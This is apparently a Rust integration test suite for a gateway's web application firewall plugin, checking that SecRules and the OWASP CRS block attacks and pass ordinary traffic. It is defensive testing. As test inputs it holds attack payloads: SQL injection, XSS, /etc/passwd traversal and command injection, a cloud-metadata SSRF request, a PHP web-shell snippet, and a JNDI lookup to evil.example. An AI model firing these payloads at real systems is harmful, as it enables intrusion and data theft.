//! The `waf` plugin through the real binary: the seed's SecRules as pasted,
//! bodies inspected before anything reaches the service, detect mode,
//! exclusions and scoping, located config errors, and the OWASP CRS.

use crate::harness::{
    check, eventually, metric_sum, Conn, Gateway, Reply, Request, Response, Upstream,
};
use std::path::{Path, PathBuf};
use std::time::Duration;

/// The seed's `modsecurity_rules`, unchanged, and a rule counting failed
/// logins for its rule 1002.
pub(crate) const SEED_RULES: &str = r#"
# Block SQL injection patterns
SecRule REQUEST_URI "@rx (?i:(?:union[\s]+select|select[\s]+from))" \
    "id:1000,deny,status:403,msg:'SQL Injection blocked'"
# Block common XSS attempts
SecRule ARGS "@rx <script[^>]*>" \
    "id:1001,deny,status:403,msg:'XSS blocked'"
# Rate limit login attempts
SecRule IP:LOGIN_ATTEMPT "@gt 5" \
    "id:1002,deny,status:429,msg:'Brute force blocked'"
SecRule RESPONSE_STATUS "@streq 401" \
    "id:1003,phase:3,pass,nolog,chain"
    SecRule REQUEST_FILENAME "@beginsWith /login" \
        "setvar:ip.login_attempt=+1,expirevar:ip.login_attempt=600"
"#;

fn indent(text: &str, spaces: usize) -> String {
    let pad = " ".repeat(spaces);
    text.lines().map(|l| format!("{pad}{l}\n")).collect()
}

/// One service on `up` with route `/` carrying a waf plugin of `config`.
pub(crate) fn config(up: &Upstream, waf_config: &str) -> String {
    format!(
        "services:\n  - name: api\n    url: {}\n    routes:\n      - name: all\n        paths: [/]\n        plugins:\n          - name: waf\n            config:\n{}",
        up.url(),
        indent(waf_config, 14)
    )
}

pub(crate) fn rules(text: &str) -> String {
    format!("rules: |\n{}", indent(text, 2))
}

/// A refusal in the common format, nothing about the rule leaked.
pub(crate) fn assert_refused(r: &Response, status: u16) {
    assert_eq!(r.status, status, "{r:?}");
    let body = r.json();
    assert!(
        body["request_id"].as_str().is_some_and(|s| s.len() == 32),
        "{body}"
    );
    assert!(body["message"].is_string(), "{body}");
    // (Outside the request id, whose random hex may hold "1000".)
    let id = body["request_id"].as_str().unwrap_or_default();
    let text = r.body_lossy().replace(id, "");
    assert!(!text.contains("1000") && !text.contains("SQL"), "{text}");
}

#[test]
fn seed_rules_block_before_the_service_and_count_failed_logins() {
    let up = Upstream::start_with(|req| {
        if req.target.starts_with("/login") {
            Reply::status(401)
        } else {
            Reply::ok("ok")
        }
    });
    let gw = Gateway::start(&config(&up, &rules(SEED_RULES)));
    assert_eq!(gw.get("/products?q=shoes").status, 200);
    assert_eq!(up.count(), 1);
    assert_refused(&gw.get("/products?q=1%20UNION%20SELECT%20password"), 403);
    assert_refused(
        &gw.get("/products?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        403,
    );
    assert_eq!(up.count(), 1, "blocked requests never reach the service");
    for _ in 0..6 {
        let r = gw.send(&Request::post("/login").body("user=a&pass=b"));
        assert_eq!(r.status, 401);
    }
    assert_eq!(up.count(), 7);
    assert_refused(
        &gw.send(&Request::post("/login").body("user=a&pass=c")),
        429,
    );
    assert_refused(&gw.get("/products"), 429);
    assert_eq!(up.count(), 7, "the client is blocked everywhere now");
    let m = gw.metrics();
    let blocked = |rule: &str| {
        metric_sum(
            &m,
            "gatehouse_waf_rule_matches_total",
            &[("rule", rule), ("action", "blocked")],
        )
    };
    assert_eq!(blocked("1000"), Some(1.0));
    assert_eq!(blocked("1001"), Some(1.0));
    assert_eq!(blocked("1002"), Some(2.0));
    assert!(gw.logs().contains("blocked by 1001"), "{}", gw.logs());
}

#[test]
fn the_logging_phase_runs_for_blocked_requests_too() {
    let up = Upstream::start_with(|_| Reply::ok("ok"));
    let waf = rules(
        "SecRule ARGS \"@contains evil\" \"id:10,phase:1,deny,setvar:tx.why=evil\"\n\
         SecRule TX:why \"@streq evil\" \"id:20,phase:5,pass,log,msg:'reported'\"\n\
         SecAction \"id:21,phase:5,pass,log,msg:'every request'\"\n",
    );
    let gw = Gateway::start(&config(&up, &waf));
    assert_eq!(gw.get("/a?q=fine").status, 200);
    assert_refused(&gw.get("/a?q=evil"), 403);
    // The phase runs as the request is logged, after the answer went out.
    let line = "blocked by 10; rules: 10[ARGS:q]; 20[TX:why] \"reported\"";
    assert!(
        gw.wait_for_log(line, Duration::from_secs(5)),
        "{}",
        gw.logs()
    );
    let counts = || {
        let m = gw.metrics();
        ["20", "21"].map(|rule| {
            metric_sum(
                &m,
                "gatehouse_waf_rule_matches_total",
                &[("rule", rule), ("action", "matched")],
            )
        })
    };
    let want = [Some(1.0), Some(2.0)];
    eventually(Duration::from_secs(5), || counts() == want);
    assert_eq!(counts(), want);
}

#[test]
fn bodies_are_inspected_before_anything_reaches_the_service() {
    let up = Upstream::start_with(Reply::echo);
    let waf = format!(
        "request_body_limit: 2k\n{}",
        rules(
            "SecRequestBodyAccess On\n\
             SecRule ARGS \"@rx <script\" \"id:1,phase:2,deny,t:lowercase\"\n\
             SecRule FILES \"@rx \\.php$\" \"id:2,phase:2,deny\"\n\
             SecRule REQBODY_ERROR \"!@eq 0\" \"id:3,phase:2,deny,status:400\"\n"
        )
    );
    let gw = Gateway::start(&config(&up, &waf));
    let json = |body: &str| {
        Request::post("/orders")
            .header("content-type", "application/json")
            .body(body)
    };
    assert_refused(&gw.send(&json(r#"{"note":{"text":"<SCRIPT>x"}}"#)), 403);
    assert_refused(&gw.send(&json(r#"{"note":"#)), 400);
    let form = Request::post("/f")
        .header("content-type", "application/x-www-form-urlencoded")
        .chunked(&[b"a=1&b=%3Cscr", b"ipt%3E"]);
    assert_refused(&gw.send(&form), 403);
    let multipart = Request::post("/upload")
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body("--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n<?php ?>\r\n--XyZ--\r\n");
    assert_refused(&gw.send(&multipart), 403);
    assert_eq!(up.count(), 0, "nothing reached the service");

    // Benign bodies arrive intact, however they were framed.
    let body = r#"{"items":[{"sku":"A-1","qty":2}],"note":"ring twice"}"#;
    assert_eq!(gw.send(&json(body)).status, 200);
    assert_eq!(up.last().body, body.as_bytes());
    let chunked = Request::post("/orders")
        .header("content-type", "application/json")
        .chunked(&[&body.as_bytes()[..10], &body.as_bytes()[10..]]);
    assert_eq!(gw.send(&chunked).status, 200);
    assert_eq!(up.last().body, body.as_bytes());

    // Over the limit: refused whole, in block mode.
    let big = format!("{{\"a\":\"{}\"}}", "x".repeat(3000));
    assert_refused(&gw.send(&json(&big)), 413);
    assert_eq!(up.count(), 2);

    // Expect: 100-continue gets its interim answer before the body is read.
    let mut conn = Conn::open(gw.proxy).unwrap();
    conn.write_raw(
        b"POST /orders HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 11\r\nExpect: 100-continue\r\n\r\n",
    )
    .unwrap();
    let interim = conn.read_response().unwrap();
    assert_eq!(interim.status, 100);
    conn.write_raw(b"{\"a\":\"ok\"}\n").unwrap();
    assert_eq!(conn.read_response().unwrap().status, 200);
    assert_eq!(up.last().body, b"{\"a\":\"ok\"}\n");
}

#[test]
fn detect_mode_exclusions_and_scoping() {
    let up = Upstream::start();
    let text = format!(
        "services:\n  - name: api\n    url: {}\n    routes:\n      - name: guarded\n        paths: [/g]\n      - name: relaxed\n        paths: [/r]\n        plugins:\n          - name: waf\n            config:\n              mode: detect\n{}\n      - name: cms\n        paths: [/cms]\n        plugins:\n          - name: waf\n            config:\n{}\n      - name: open\n        paths: [/open]\n        plugins:\n          - name: waf\n            enabled: false\n            config: {{rules: 'SecAction \"id:1\"'}}\nplugins:\n  - name: waf\n    config:\n{}",
        up.url(),
        indent(&rules(SEED_RULES), 14),
        indent(
            &format!("{}exclusions:\n  - rule_ids: [1001]\n    targets: [ARGS:html]\n", rules(SEED_RULES)),
            14
        ),
        indent(&rules(SEED_RULES), 6),
    );
    let gw = Gateway::start(&text);
    let xss = "?html=%3Cscript%3E";
    assert_refused(&gw.get(&format!("/g{xss}")), 403);
    assert_eq!(up.count(), 0);
    assert_eq!(gw.get(&format!("/r{xss}")).status, 200, "detect only");
    assert_eq!(gw.get(&format!("/cms{xss}")).status, 200, "excluded target");
    assert_refused(&gw.get("/cms?other=%3Cscript%3E"), 403);
    assert_eq!(up.count(), 2);
    let m = gw.metrics();
    assert_eq!(
        metric_sum(
            &m,
            "gatehouse_waf_rule_matches_total",
            &[("rule", "1001"), ("action", "detected")]
        ),
        Some(1.0)
    );
    assert!(gw.logs().contains("detect only"), "{}", gw.logs());
    // The route's disabled entry applies nothing: the global one is
    // replaced only by an enabled, more specific entry.
    assert_refused(&gw.get(&format!("/open{xss}")), 403);
}

#[test]
fn bad_waf_configs_name_file_line_and_rule() {
    let up_url = "http://127.0.0.1:9";
    let cases = [
        (
            "rules: |\n  SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"\n  SecRule ARGS \"@bogus x\" \"id:2\"\n",
            "):2: unknown operator `@bogus`",
        ),
        ("mode: enforce\nrules: 'SecAction \"id:1\"'\n", "unknown mode `enforce`"),
        ("rulez: x\n", "unknown key `rulez`"),
        ("{}\n", "needs `rules`, `rules_files` or `crs`"),
        (
            "rules_files: [/nonexistent/rules.conf]\n",
            "/nonexistent/rules.conf",
        ),
        ("crs: {path: /nonexistent/crs}\n", "no crs-setup.conf"),
        (
            "crs: {path: /nonexistent/crs, paranoia_level: 5}\n",
            "a paranoia level is 1, 2, 3 or 4",
        ),
    ];
    for (waf, expected) in cases {
        let yaml = format!(
            "services:\n  - name: api\n    url: {up_url}\n    routes:\n      - name: r\n        paths: [/]\n        plugins:\n          - name: waf\n            config:\n{}",
            indent(waf, 14)
        );
        let out = check(&yaml);
        assert_eq!(out.code, 1, "{yaml}\n{}", out.combined());
        let file = out.path.display().to_string();
        assert!(
            out.stderr
                .lines()
                .any(|l| l.starts_with(&format!("{file}:")) && l.contains(expected)),
            "expected `{expected}` for:\n{yaml}\ngot:\n{}",
            out.stderr
        );
    }
}

fn crs_dir() -> Option<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs-v4.28.0");
    if dir.is_dir() {
        Some(dir)
    } else {
        println!("skipped: ../shared/crs-v4.28.0 not found");
        None
    }
}

/// The CRS at paranoia level 1 through the gateway: attacks of every
/// family refused, ordinary browser and API traffic forwarded.
#[test]
fn owasp_crs_blocks_attacks_and_passes_ordinary_traffic() {
    let Some(crs) = crs_dir() else {
        return;
    };
    let up = Upstream::start();
    let waf = format!("crs:\n  path: {}\n  paranoia_level: 1\n", crs.display());
    let gw = Gateway::start(&config(&up, &waf));
    let browser = |target: &str| {
        Request::get(target)
            .header(
                "user-agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
            )
            .header(
                "accept",
                "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            )
            .header("accept-language", "en-US,en;q=0.5")
            .header("cookie", "session=9f8e7d6c5b4a; theme=dark")
    };
    for benign in [
        "/",
        "/products?q=running+shoes&page=2",
        "/search?q=O%27Reilly+books",
        "/api/orders/12345?fields=id,total",
        "/blog/2024/01/what-is-select-from-where",
    ] {
        assert_eq!(gw.send(&browser(benign)).status, 200, "{benign}");
    }
    let json = Request::post("/api/orders")
        .header("content-type", "application/json")
        .header("user-agent", "shop-client/2.1")
        .body(r#"{"customer":{"name":"Zoë O'Brien","email":"zoe@example.com"},"items":[{"sku":"A-1","qty":2}]}"#);
    assert_eq!(gw.send(&json).status, 200);
    let forwarded = up.count();
    for attack in [
        "/?id=1%27%20OR%20%271%27=%271",
        "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/?file=../../../../etc/passwd",
        "/?u=http://169.254.169.254/latest/meta-data/",
        "/?cmd=;cat%20/etc/passwd",
        "/?x=%3C?php%20system($_GET%5B%27c%27%5D);%20?%3E",
        "/?q=$%7Bjndi:ldap://evil.example/a%7D",
        "/?id=1%20UNION%20ALL%20SELECT%20NULL,username,password%20FROM%20users--",
    ] {
        let r = gw.send(&browser(attack));
        assert_eq!(r.status, 403, "{attack}");
        assert_refused(&r, 403);
    }
    let sqli_json = Request::post("/api/orders")
        .header("content-type", "application/json")
        .header("user-agent", "shop-client/2.1")
        .body(r#"{"customer":{"name":"x' UNION SELECT password FROM users--"}}"#);
    assert_refused(&gw.send(&sqli_json), 403);
    assert_eq!(up.count(), forwarded, "no attack reached the service");
    assert!(
        gw.logs().contains("blocked by 949110"),
        "anomaly scoring decides: {}",
        gw.logs()
    );
}

#[test]
fn response_phase_rules_see_the_status_and_can_refuse() {
    let up = Upstream::start_with(|req| {
        if req.target.starts_with("/boom") {
            Reply::status(500).body("stack trace: at db.connect(secret.internal:5432)")
        } else {
            Reply::ok("ok")
        }
    });
    let waf = rules(
        "SecRule RESPONSE_STATUS \"@streq 500\" \"id:7,phase:3,deny,status:502,msg:'upstream error hidden'\"\n",
    );
    let gw = Gateway::start(&config(&up, &waf));
    assert_eq!(gw.get("/fine").status, 200);
    let r = gw.get("/boom");
    assert_refused(&r, 502);
    assert!(!r.body_lossy().contains("secret.internal"), "{r:?}");
}
